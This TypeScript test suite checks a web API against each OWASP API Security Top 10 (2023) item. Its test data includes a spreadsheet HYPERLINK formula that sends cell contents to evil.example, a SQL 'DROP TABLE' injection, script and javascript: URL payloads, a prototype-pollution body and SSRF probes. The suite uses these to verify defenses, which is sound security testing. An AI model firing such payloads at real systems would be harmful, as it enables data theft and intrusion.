import { once } from 'node:events';
import { readdirSync, readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { newKeyText } from '../src/auth/key-text.js';
import { loadEnv } from '../src/config/env.js';
import { startApp, type TestApp } from './support/app.js';
import { givenOn } from './support/given.js';
import { ADMIN_KEY, insertKey, insertWorkspace, withKey } from './support/keys.js';
import { nameOf, operationsOf } from './support/operations.js';
import { sendBytes } from './support/raw-http.js';

/** The ten of https://owasp.org/API-Security/editions/2023/, each by name; docs/security.md says what stands behind them. */

let test: TestApp;
let admin: TestApp;
const stranger = () => test;
const holder = async (...scopes: string[]) => withKey(test, await insertKey(test.dataSource, { scopes }));

beforeAll(async () => {
  test = await startApp({ AUTH_ENABLED: 'true', ADMIN_KEY, CORS_ORIGINS: 'https://app.example.org' });
  admin = withKey(test, ADMIN_KEY);
});
afterAll(() => test.close());

describe('API1:2023 Broken object level authorization', () => {
  it('answers for what another workspace has as for what does not exist (all routes: contract/foreign-rows)', async () => {
    const { id } = await givenOn(admin).session({ name: 'ours' });
    const workspaceId = await insertWorkspace(test.dataSource, 'neighbours');
    const neighbour = withKey(test, await insertKey(test.dataSource, { workspaceId, scopes: ['admin'] }));
    for (const method of ['get', 'delete'] as const) {
      const { body } = await neighbour.api()[method](`/sessions/${id}`).expect(404);
      expect(body).toMatchObject({ code: 'SESSION_NOT_FOUND', detail: `Session ${id} does not exist` });
    }
    await admin.api().get(`/sessions/${id}`).expect(200);
  });
});

describe('API2:2023 Broken authentication', () => {
  it('takes no key from a URL, where logs would keep it', async () => {
    for (const name of ['key', 'api_key', 'apikey', 'access_token', 'X-API-Key']) {
      await stranger().api().get(`/sessions?${name}=${ADMIN_KEY}`).expect(401);
    }
  });

  it('counts wrong keys by the address that they come from, and leaves those with a good one alone', async () => {
    const limited = await startApp({
      AUTH_ENABLED: 'true',
      ADMIN_KEY,
      RATE_LIMIT_ENABLED: 'true',
      RATE_LIMIT_PER_MINUTE: '5',
    });
    try {
      const tryKeys = async (count: number): Promise<number[]> => {
        const seen: number[] = [];
        for (let i = 0; i < count; i += 1) {
          seen.push((await limited.api().get('/sessions').set('X-API-Key', newKeyText())).status);
        }
        return seen;
      };
      expect(await tryKeys(7)).toEqual([401, 401, 401, 401, 401, 429, 429]);
      const text = 'a text as long as the key of the admin may be';
      await limited.api().get('/sessions').set('X-API-Key', text).expect(429).expect('Retry-After', /^\d+$/);
      const key = await insertKey(limited.dataSource);
      await withKey(limited, key).api().get('/sessions').expect(200);
    } finally {
      await limited.close();
    }
  });
});

describe('API3:2023 Broken object property level authorization', () => {
  it.each([{ id: 7 }, { workspaceId: 2 }, { workspace_id: 2 }, { version: 9 }, { createdAt: '2020-01-01T00:00:00Z' }])(
    'writes no property that is not for clients: %j',
    async (property) => {
      const [name] = Object.keys(property);
      const { body } = await admin
        .api()
        .post('/sessions')
        .send({ name: 'mass assignment', ...property })
        .expect(400);
      expect(body.errors).toEqual([expect.objectContaining({ pointer: `#/${name}`, code: 'UNKNOWN_FIELD' })]);
    },
  );

  it('shows no property that is not for clients', async () => {
    const given = givenOn(admin);
    const session = await given.session();
    const query = await given.query(session.id, {}, ['https://example.org/shown']);
    await admin.api().post('/keys').send({ name: 'shown' }).expect(201);
    for (const url of [`/sessions/${session.id}?include=queries.results.website`, `/queries/${query.id}`, '/keys']) {
      const { text } = await admin.api().get(url).expect(200);
      expect(text).not.toMatch(/"(workspace|workspaceId|hash|identity|urlHash|search)"/);
    }
  });
});

interface Parameter {
  name: string;
  schema: Record<string, unknown>;
}

function isLimited(schema: Record<string, unknown>): boolean {
  const has = (...limits: string[]): boolean => limits.every((limit) => schema[limit] !== undefined);
  if (schema['type'] === 'string') return has('maxLength') || has('enum') || has('const');
  if (schema['type'] === 'array') return has('maxItems');
  const below = has('maximum') || has('exclusiveMaximum');
  return schema['type'] === 'boolean' || (below && (has('minimum') || has('exclusiveMinimum')));
}

describe('API4:2023 Unrestricted resource consumption', () => {
  it.each([
    ['/sessions?perPage=501', 400],
    ['/results?page=10001', 400],
    [`/results?search=${'x'.repeat(201)}`, 400],
    [`/sessions?${'x'.repeat(20_000)}`, 431],
  ])('refuses %.40s', async (url, status) => {
    const { status: answered } = await sendBytes(
      test.url,
      `GET /api/v1${url} HTTP/1.1\r\nHost: x\r\nX-API-Key: ${ADMIN_KEY}\r\nConnection: close\r\n\r\n`,
    );
    expect(answered).toBe(status);
  });

  it.each([
    ['too deep', JSON.stringify({ name: 'n', config: JSON.parse('{"a":'.repeat(70) + '1' + '}'.repeat(70)) }), 400],
    ['too long', JSON.stringify({ name: 'n'.repeat(256) }), 400],
    ['too many', JSON.stringify({ name: 'n', tags: Array.from({ length: 51 }, (_, i) => `t${i}`) }), 400],
  ])('refuses a body that is %s', async (_, body, status) => {
    await admin.api().post('/sessions').set('content-type', 'application/json').send(body).expect(status);
  });

  it('ends statements that take too long', async () => {
    expect(await test.dataSource.query('SHOW statement_timeout')).toEqual([{ statement_timeout: '30s' }]);
  });

  it('documents a limit for every text, number and list that it takes', async () => {
    const { body } = await stranger().root().get('/openapi.json').expect(200);
    const parameters = Object.entries(
      body.paths as Record<string, Record<string, { parameters?: Parameter[] }>>,
    ).flatMap(([url, item]) =>
      Object.entries(item).flatMap(([method, operation]) =>
        (operation.parameters ?? []).map(({ name, schema }) => ({ place: `${method} ${url} ${name}`, schema })),
      ),
    );
    const unlimited = parameters.filter(({ schema }) => !isLimited(schema)).map(({ place }) => place);
    expect(parameters.length).toBeGreaterThan(50);
    expect(unlimited).toEqual([]);
  });
});

describe('API5:2023 Broken function level authorization', () => {
  it('declares a scope for every operation: what changes needs more than read, keys and cache need admin', async () => {
    const operations = await operationsOf(test);
    const opened = operations.filter(({ method, scope }) => method !== 'get' && scope !== 'write' && scope !== 'admin');
    expect(opened.map(nameOf)).toEqual([]);
    const administrative = operations.filter(({ path: url }) => /\/(keys|cache|diagnostics)\b/.test(url));
    expect(administrative.filter(({ scope }) => scope !== 'admin').map(nameOf)).toEqual([]);
    expect(administrative.length).toBeGreaterThan(4);
  });

  it('lets nobody give himself more than he has', async () => {
    const writer = await holder('read', 'write');
    await writer
      .api()
      .post('/keys')
      .send({ name: 'more', scopes: ['admin'] })
      .expect(403);
    await writer.api().get('/keys').expect(403);
  });
});

describe('API6:2023 Unrestricted access to sensitive business flows', () => {
  it('limits imports apart from other requests, whoever starts them', async () => {
    const limited = await startApp({ RATE_LIMIT_ENABLED: 'true' });
    try {
      const seen: number[] = [];
      for (let i = 0; i < 12; i += 1) {
        const sent = limited.api().post('/imports').set('content-type', 'application/x-ndjson').send('{}\n');
        seen.push((await sent).status);
      }
      expect(seen.indexOf(429)).toBe(10);
      await limited.api().get('/sessions').expect(200);
    } finally {
      await limited.close();
    }
  });
});

describe('API7:2023 Server side request forgery', () => {
  it('fetches no URL that it is given', async () => {
    let visits = 0;
    const trap = createServer((_, response) => {
      visits += 1;
      response.end();
    }).listen(0, '127.0.0.1');
    await once(trap, 'listening');
    try {
      const { port } = trap.address() as AddressInfo;
      const url = `http://127.0.0.1:${port}/latest/meta-data`;
      const given = givenOn(admin);
      const { id } = await given.session({ config: { url, callback: url, webhook: url } });
      await given.query(id, { params: { url } }, [{ url, extra: { image: url } }]);
      await admin
        .api()
        .put('/websites/bulk')
        .send({ items: [{ url: `${url}?website`, text: `see ${url}` }] })
        .expect(200);
      await admin
        .api()
        .post(`/sessions/${id}/imports`)
        .set('content-type', 'application/x-ndjson')
        .send(`${JSON.stringify({ query: { text: url, engine: 'e' }, rank: 1, url: `${url}?import` })}\n`)
        .expect(200);
      await admin.api().get(`/sessions/${id}/export?format=ndjson`).expect(200);
      expect(visits).toBe(0);
    } finally {
      trap.close();
    }
  });

  it('has no code that could: nothing that serves is a client of HTTP; the doctor, a command, is one of the server that it is given', () => {
    const client =
      /(?:await|return|void|[=(>]) ?fetch\(|globalThis\.fetch|\bhttps?\.(get|request)\(|from '(undici|axios|got|node-fetch|node:dns[^']*|node:http2)'/;
    const files = readdirSync('src', { recursive: true, encoding: 'utf8' }).filter(
      (file) => file.endsWith('.ts') && !file.endsWith('.spec.ts') && !file.startsWith(path.join('cli', 'doctor')),
    );
    expect(files.length).toBeGreaterThan(100);
    expect(files.filter((file) => client.test(readFileSync(path.join('src', file), 'utf8')))).toEqual([]);
  });
});

describe('API8:2023 Security misconfiguration', () => {
  it('sends the headers that browsers heed, with every kind of answer', async () => {
    const answers = [
      await admin.api().get('/sessions').expect(200),
      await stranger().api().get('/sessions').expect(401),
      await stranger().root().get('/no-such-route').expect(404),
      await stranger().root().get('/docs').redirects(1).expect(200),
    ];
    for (const { headers } of answers) {
      expect(headers).toMatchObject({
        'x-content-type-options': 'nosniff',
        'x-frame-options': 'SAMEORIGIN',
        'referrer-policy': 'no-referrer',
        'content-security-policy': expect.stringMatching(/default-src 'self'.*script-src 'self'/),
      });
      expect(headers['content-security-policy']).not.toMatch(
        /unsafe-eval|upgrade-insecure-requests|script-src[^;]*unsafe/,
      );
      expect([headers['x-powered-by'], headers['server']]).toEqual([undefined, undefined]);
    }
  });

  it('opens itself to the pages of the origins that are named, and of no other', async () => {
    const ask = (origin: string) => stranger().api().get('/sessions').set('Origin', origin);
    const named = await ask('https://app.example.org').expect(401);
    expect(named.headers).toMatchObject({
      'access-control-allow-origin': 'https://app.example.org',
      'access-control-expose-headers': expect.stringMatching(/ETag.*WWW-Authenticate.*Retry-After/),
      vary: expect.stringContaining('Origin'),
    });
    for (const origin of [
      'https://evil.example',
      'null',
      'https://app.example.org.evil.example',
      'http://app.example.org',
    ]) {
      const { headers } = await ask(origin).expect(401);
      expect(headers['access-control-allow-origin']).toBeUndefined();
    }
    const preflight = await stranger()
      .api()
      .options('/sessions')
      .set({ Origin: 'https://app.example.org', 'Access-Control-Request-Method': 'POST' })
      .set('Access-Control-Request-Headers', 'authorization,content-type')
      .expect(204);
    expect(preflight.headers).toMatchObject({ 'access-control-allow-headers': 'authorization,content-type' });
    expect(preflight.headers['access-control-allow-credentials']).toBeUndefined();
  });

  it('does not start in production open to every page', () => {
    expect(() => loadEnv({ NODE_ENV: 'production', CORS_ORIGINS: '*' })).toThrow(/CORS_ORIGINS.*name the origins/);
    expect(loadEnv({ CORS_ORIGINS: '*' }).CORS_ORIGINS).toBe('*');
    expect(() => loadEnv({ CORS_ORIGINS: 'app.example.org,https://a.example/path' })).toThrow(/CORS_ORIGINS/);
  });

  it('says nothing of its insides when it fails', async () => {
    const broken = [
      admin.api().get('/sessions/1e5'),
      admin.api().get('/sessions?cursor=AAAA'),
      admin.api().post('/sessions').set('content-type', 'application/json').send('{"name":'),
      admin.api().get('/%ff'),
    ];
    for (const { text } of await Promise.all(broken.map((request) => request.ok(() => true)))) {
      expect(text).not.toMatch(/node_modules|\.(ts|js):\d|SELECT|QueryFailed|\/src\//);
    }
  });
});

describe('API9:2023 Improper inventory management', () => {
  it('documents every route, under one version (contract/access: and serves no other)', async () => {
    const operations = await operationsOf(test);
    const elsewhere = operations.filter(({ path: url }) => !url.startsWith('/api/v1/')).map(({ path: url }) => url);
    expect(elsewhere.filter((url) => !/^\/($|health|metrics)/.test(url))).toEqual([]);
    await admin.root().get('/api/v0/sessions').expect(404);
    await admin.root().get('/api/v2/sessions').expect(404);
  });
});

describe('API10:2023 Unsafe consumption of APIs', () => {
  const HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    '<script>alert(1)</script>',
    "'; DROP TABLE sessions; --",
    '\u202Egnp.exe',
  ];

  it('keeps what tools and engines answered as the text that it is, and defuses formulas for spreadsheets', async () => {
    const { id } = await givenOn(admin).session();
    const lines = HOSTILE.map((title, i) =>
      JSON.stringify({ query: { text: 'q', engine: 'e' }, rank: i + 1, url: `javascript:alert(${i})`, title }),
    );
    await admin
      .api()
      .post(`/sessions/${id}/imports`)
      .set('content-type', 'application/x-ndjson')
      .send(`${lines.join('\n')}\n`)
      .expect(200);
    const { body, headers } = await admin.api().get(`/results?sessionId=${id}&sort=id`).expect(200);
    expect((body.items as { title: string }[]).map(({ title }) => title)).toEqual(HOSTILE);
    expect(headers['content-type']).toMatch(/^application\/json/);
    const csv = await admin.api().get(`/sessions/${id}/export?format=csv&defuse=true`).expect(200);
    expect(csv.text).toContain(`"'=HYPERLINK(`);
    expect(csv.headers['content-disposition']).toMatch(/^attachment/);
  });

  it('takes nothing from keys such as __proto__', async () => {
    const config = '{"__proto__":{"isAdmin":true},"constructor":{"prototype":{"isAdmin":true}}}';
    const { body } = await admin
      .api()
      .post('/sessions')
      .set('content-type', 'application/json')
      .send(`{"name":"polluted","config":${config}}`)
      .expect(201);
    expect(({} as Record<string, unknown>)['isAdmin']).toBeUndefined();
    const { text } = await admin.api().get(`/sessions/${body.id}`).expect(200);
    expect(text).toContain('"__proto__"');
  });
});

describe('without keys, on a development machine', () => {
  let open: TestApp;
  beforeAll(async () => {
    open = await startApp({ CORS_ORIGINS: 'https://app.example.org' });
  });
  afterAll(() => open.close());

  const importFrom = (headers: Record<string, string>, app = open) =>
    app
      .api()
      .post('/imports?engine=e&query=q')
      .set({ 'content-type': 'text/plain', ...headers })
      .send('{}\n');

  it('writes nothing for the pages of other sites, which browsers let send forms and files to anybody', async () => {
    const foreign = { 'Sec-Fetch-Site': 'cross-site', Origin: 'https://evil.example' };
    for (const refused of [importFrom(foreign), open.api().post('/sessions').set(foreign).send({ name: 'x' })])
      expect((await refused.expect(403)).body.code).toBe('CROSS_SITE_REQUEST');
    const allowed = { ...foreign, Origin: 'https://app.example.org' };
    for (const headers of [allowed, { 'Sec-Fetch-Site': 'same-origin' }]) {
      expect((await importFrom(headers)).status).not.toBe(403);
    }
    await open.api().get('/sessions').set(foreign).expect(200);
  });

  it('answers under no name that somebody has pointed here', async () => {
    const under = (Host: string) => open.api().get('/sessions').set({ Host });
    for (const host of [
      'evil.example',
      'evil.example:3000',
      'evil.example.',
      '127.0.0.1.evil.example',
      'localhost.evil.example',
    ]) {
      expect((await under(host).expect(403)).body.code).toBe('FOREIGN_HOST');
    }
    for (const host of ['localhost:3000', 'observatory.localhost', '127.0.0.1', '[::1]:3000', 'app', 'app.example.org'])
      await under(host).expect(200);
  });

  it('asks for the origin where browsers say no more: a server that is reached by http under a name', async () => {
    const everywhere = await startApp({
      HOST: '0.0.0.0',
      AUTH_ENABLED: 'false',
      CORS_ORIGINS: 'https://app.example.org',
    });
    const named = { Host: 'observatory.example.org:3000' };
    for (const Origin of ['http://evil.example', 'http://observatory.example.org', 'null']) {
      const { body } = await importFrom({ ...named, Origin }, everywhere).expect(403);
      expect(body.code).toBe('CROSS_SITE_REQUEST');
    }
    const own = { ...named, Origin: 'http://observatory.example.org:3000' };
    const allowed = { ...named, Origin: 'https://app.example.org' };
    for (const headers of [own, allowed, named]) expect((await importFrom(headers, everywhere)).status).not.toBe(403);
    await everywhere.close();
  });
});
